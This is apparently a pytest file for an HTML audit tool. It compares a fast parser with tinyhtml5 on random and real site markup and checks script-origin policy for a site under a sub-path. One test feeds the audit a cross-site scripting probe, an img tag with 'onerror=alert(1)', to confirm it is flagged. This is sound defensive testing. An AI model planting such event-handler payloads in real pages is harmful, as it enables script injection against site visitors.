          "</noscript>", "<svg>", "</svg>", "<math>", "<mi>", "<foreignObject>", "<![CDATA[", "]]>", "<!--", "-->",
          "<plaintext>", "<xmp>", "<iframe>", "</iframe>", "<select>", "<option>", "<template>", "</template>", "<pre>",
          "\n", "<br/>", "<img", " src=", " href=", " onerror=", " class", "=", '"', "'", "`", ">", "/>", "/", " ",
          "\t", "\f", "\x00", "&amp;", "&#x61;", "&lt;", "&", "&notin;", "x", "Y", "-", "_", ":", "</p>", "</div>",
          "</a>", "<body", "<html", "<head>", "</head>", "<meta", "<base", "<frameset>", "<!doctype html>", "<?x?>",
          "</", "< a", "<a/b>", "</ a>", "</a b>", "<b c=d/>", "é", "\r\n", "\r", " ONCLICK=\"a\"", " x='1'",
          "=y", " a=b", " a = \"b\" ", "<P CLASS=x>", "<a b=c\"d>", "<a b='x'c>", "<a\fb>"]


def test_the_fast_parser_builds_the_same_tree_as_tinyhtml5_on_random_markup():
    rng = random.Random(18)
    for _ in range(400):
        text = audit.normalise_newlines("".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40))))
        for scripting in (True, False):
            expected = _shape(HTMLParser().parse(io.StringIO(text), full_tree=True, scripting=scripting))
            assert _shape(audit.parse_html(text, scripting=scripting)[0]) == expected, repr(text)
        expected = _shape(HTMLParser().parse_fragment(io.StringIO(text), container="div"))
        assert _shape(audit.parse_html(text, scripting=False, fragment=True)[0]) == expected, repr(text)


def test_element_lines():
    text = "<!doctype html>\n<p>\n<img\n src=x\n onerror=alert(1)>"
    finding = assert_found(findings_in(text, "x/index.html"), "onerror", output="x/index.html")
    assert finding.line == 5


# ---------------------------------------------------------------------------------------------
# The real site
# ---------------------------------------------------------------------------------------------

def test_the_fast_parser_builds_the_same_tree_as_tinyhtml5_on_the_real_site(site):
    for path in sorted(site.rglob("*.html")):
        text = audit.normalise_newlines(path.read_text(encoding="utf-8"))
        expected = _shape(HTMLParser().parse(io.StringIO(text), full_tree=True, scripting=True))
        assert _shape(audit.parse_html(text)[0]) == expected, path


def test_the_real_site_passes_the_audit(site):
    """Expected to fail until the site's own inline scripts move into files (issue #18): the
    failure lists what the audit finds, traced to the source."""
    started = time.perf_counter()
    findings = audit_site(site, project=ROOT)
    elapsed = time.perf_counter() - started
    kinds = Counter(f.what.split(" (")[0] for f in findings)
    summary = "\n".join(f"{count:4} × {what}" for what, count in kinds.most_common())
    shown = format_findings(findings[:40], site=str(site))
    assert findings == [], (f"{len(findings)} finding(s) in {elapsed:.2f} s:\n{summary}\n\nFirst ones:\n{shown}")


def test_a_site_under_a_sub_path_loads_its_own_scripts_by_absolute_address():
    """MkDocs writes root-absolute addresses on 404 pages; under https://user.github.io/pravo/ they
    start with /pravo/. Anything above that folder is another site of the same host."""
    import dataclasses

    policy = dataclasses.replace(DEFAULT_POLICY, base_path="/pravo/", require_csp_meta=False)
    own = '<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>x</title></head><body>' \
          '<script src="/pravo/assets/js/menu.js"></script></body></html>'
    assert audit_html(own, "404.html", policy) == []
    other = own.replace("/pravo/assets/js/menu.js", "/other/assets/js/menu.js")
    [finding] = audit_html(other, "404.html", policy)
    assert "script" in finding.what and finding.output == "404.html"
